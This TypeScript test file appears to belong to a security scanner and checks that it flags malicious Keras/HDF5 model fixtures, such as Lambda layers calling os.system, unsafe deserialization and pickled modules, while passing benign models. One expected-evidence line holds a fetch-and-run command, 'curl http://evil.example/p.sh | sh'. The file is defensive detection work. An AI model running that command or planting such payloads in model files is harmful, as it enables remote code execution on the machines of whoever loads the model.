// Real Keras/h5py-made files (fixtures/keras, see its MANIFEST.md) and the corpus Keras samples.
import { describe, expect, it } from 'vitest';
import { existsSync, readFileSync } from 'node:fs';
import { scan, scanReport, fromBytes, type FileReport } from '../../src/engine';
import { reportProblems } from '../helpers/schema';

const fixture = (p: string) => readFileSync(`fixtures/keras/${p}`);
const scanFile = async (p: string, bytes = fixture(p)) => scan(fromBytes(bytes, p.split('/').pop()!));
const hits = (r: FileReport, ruleId: string) => r.findings.filter((f) => f.ruleId === ruleId);
const atLeastWarning = (r: FileReport) => r.findings.filter((f) => f.severity === 'critical' || f.severity === 'warning');

describe('keras fixtures: benign files scan clean', () => {
  it.each(['benign/sequential.h5', 'benign/sequential.keras', 'benign/plain-data.hdf5'])('%s is clean and complete', async (p) => {
    const r = await scanFile(p);
    expect(atLeastWarning(r)).toEqual([]);
    expect(r.status).toBe('clean');
    expect(r.complete).toBe(true);
    expect(r.format).toBe('keras');
    expect(reportProblems(scanReport([r], { startedAt: new Date().toISOString(), durationMs: 1, options: {} }))).toEqual([]);
  });

  it('notes the Keras structure of a legacy .h5: version, backend, layers, weights', async () => {
    const r = await scanFile('benign/sequential.h5');
    const notes = r.nodes[0]!.notes!;
    expect(notes.keras).toBe(true);
    expect(notes.kerasVersion).toBe('3.15.1');
    expect(notes.backend).toBe('tensorflow');
    expect(notes.layerClasses).toEqual({ InputLayer: 1, Dense: 2 });
    expect(notes.datasets).toBe(4);
  });

  it('sends a .keras archive\'s config.json back as a keras config and its weights through the HDF5 scanner', async () => {
    const r = await scanFile('benign/sequential.keras');
    const byPath = new Map(r.nodes.map((n) => [n.path.join(' > '), n]));
    expect(byPath.get('sequential.keras')?.notes?.kerasVersion).toBe('3.15.1');
    expect(byPath.get('sequential.keras > config.json')?.format).toBe('keras');
    expect(byPath.get('sequential.keras > config.json')?.notes?.modelClass).toBe('Sequential');
    expect(byPath.get('sequential.keras > model.weights.h5')?.format).toBe('keras');
    expect(byPath.get('sequential.keras > model.weights.h5')?.notes?.datasets).toBe(4);
  });

  it('claims a plain (non-Keras) HDF5 file and notes that it is not a Keras model', async () => {
    const r = await scanFile('benign/plain-data.hdf5');
    expect(r.nodes[0]!.notes!.keras).toBe(false);
    expect(r.nodes[0]!.notes!.groups).toBe(3);
  });
});

describe('keras fixtures: attacks', () => {
  it('flags a Keras-made .h5 Lambda whose bytecode calls os.system as CRITICAL, naming what it references', async () => {
    const r = await scanFile('malicious/lambda-os-system.h5');
    const [f] = hits(r, 'keras/lambda-bytecode');
    expect(f?.severity).toBe('critical');
    expect(f?.location).toEqual({ path: ['lambda-os-system.h5'], pointer: '/@model_config#/config/layers/2/config/function/config/code' });
    expect(f?.message).toMatch(/Lambda function of "backdoor".*references __import__, system, os/);
    expect(f?.evidence).toContain('names: __import__, system');
    expect(f?.evidence).toContain("'curl http://evil.example/p.sh | sh'");
    // The bytecode's string constants go through the shared detectors too.
    expect(hits(r, 'strings/shell-command')[0]?.location.pointer).toBe(f?.location.pointer);
  });

  it('flags the same Lambda in a Keras 3 .keras archive at config.json', async () => {
    const r = await scanFile('malicious/lambda-os-system.keras');
    const [f] = hits(r, 'keras/lambda-bytecode');
    expect(f?.severity).toBe('critical');
    expect(f?.location).toEqual({ path: ['lambda-os-system.keras', 'config.json'], pointer: '/config/layers/2/config/function/config/code' });
  });

  it('flags a .keras config that imports os.system as an activation (CVE-2025-1550 shape)', async () => {
    const r = await scanFile('malicious/module-os-system.keras');
    const [f] = hits(r, 'keras/dangerous-import');
    expect(f?.severity).toBe('critical');
    expect(f?.location).toEqual({ path: ['module-os-system.keras', 'config.json'], pointer: '/config/layers/0/config/activation/module' });
    expect(f?.evidence).toBe('os.system');
  });

  it('flags get_file and enable_unsafe_deserialization reached from a .keras config', async () => {
    const r = await scanFile('malicious/get-file-unsafe.keras');
    expect(hits(r, 'keras/get-file').map((f) => f.location.pointer)).toContain('/config/layers/0/config/kernel_initializer/module');
    expect(hits(r, 'keras/unsafe-deserialization').map((f) => f.location.pointer)).toContain('/config/layers/0/config/bias_initializer/module');
    expect([...hits(r, 'keras/get-file'), ...hits(r, 'keras/unsafe-deserialization')].every((f) => f.severity === 'critical')).toBe(true);
  });

  it('flags a Keras 2 Lambda that names os.system by function_type "function"', async () => {
    const r = await scanFile('malicious/keras2-lambda-os-function.h5');
    const [f] = hits(r, 'keras/dangerous-import');
    expect(f?.severity).toBe('critical');
    expect(f?.location.pointer).toBe('/@model_config#/config/layers/1/config/function');
    expect(f?.message).toMatch(/Lambda layer "cmd" imports os\.system/);
  });

  it('decodes a Keras 2 [base64, defaults, closure] Lambda and lists exec/socket/subprocess', async () => {
    const r = await scanFile('malicious/keras2-lambda-marshal.h5');
    const [f] = hits(r, 'keras/lambda-bytecode');
    expect(f?.severity).toBe('critical');
    expect(f?.location.pointer).toBe('/@model_config#/config/layers/1/config/function/0');
    expect(f?.message).toMatch(/references exec, socket, subprocess/);
  });

  it('flags TorchModuleWrapper and scans its pickled module as a child that calls posix.system', async () => {
    const r = await scanFile('malicious/torch-module-wrapper.h5');
    expect(hits(r, 'keras/torch-module-wrapper')[0]?.severity).toBe('critical');
    const call = hits(r, 'pickle/dangerous-call')[0];
    expect(call?.severity).toBe('critical');
    expect(call?.location.path).toEqual(['torch-module-wrapper.h5', '/@model_config#/config/layers/1/config/module']);
  });

  it('warns on a layer class from a package outside Keras', async () => {
    const r = await scanFile('malicious/custom-module.h5');
    const [f] = hits(r, 'keras/custom-import');
    expect(f?.severity).toBe('warning');
    expect(f?.evidence).toBe('evil_pkg.layers.Backdoor');
  });

  it('inspects string attributes of a non-Keras HDF5 file', async () => {
    const r = await scanFile('malicious/plain-attr-shell.hdf5');
    const [f] = hits(r, 'strings/shell-command');
    expect(f?.location.pointer).toBe('/@postprocess');
  });
});

describe('keras fixtures: malformed HDF5 is a format error, not a crash', () => {
  it.each([
    ['malformed/truncated.h5', /truncated file/],
    ['malformed/bad-superblock.h5', /bad superblock version/],
  ])('%s', async (p, why) => {
    const r = await scanFile(p);
    expect(r.status).toBe('error');
    expect(r.complete).toBe(false);
    const [f] = hits(r, 'format/malformed');
    expect(f?.severity).toBe('warning');
    expect(f?.message).toMatch(why);
    expect(r.findings.some((x) => x.severity === 'critical')).toBe(false);
  });

  it('keeps working after a malformed file (h5wasm state is not poisoned)', async () => {
    await scanFile('malformed/truncated.h5');
    const r = await scanFile('benign/sequential.h5');
    expect(r.status).toBe('clean');
  });
});

// The shared corpus sits beside the checkout in CI; a checkout elsewhere skips these, as corpus.test does.
const KERAS_CORPUS = '../shared/corpus/modelaudit/tests/assets/samples/keras';
describe.skipIf(!existsSync(KERAS_CORPUS))('keras corpus samples', () => {
  const corpus = KERAS_CORPUS;
  it('flags malicious_lambda.h5 (Lambda source calling eval) as CRITICAL', async () => {
    const r = await scan(fromBytes(readFileSync(`${corpus}/malicious_lambda.h5`), 'malicious_lambda.h5'));
    const [f] = hits(r, 'keras/lambda-source');
    expect(f?.severity).toBe('critical');
    expect(f?.location.pointer).toBe('/@model_config#/config/layers/0/config/function');
    expect(f?.message).toMatch(/reaches eval/);
  });

  it('scans safe_model.h5 clean', async () => {
    const r = await scan(fromBytes(readFileSync(`${corpus}/safe_model.h5`), 'safe_model.h5'));
    expect(r.status).toBe('clean');
    expect(atLeastWarning(r)).toEqual([]);
  });
});
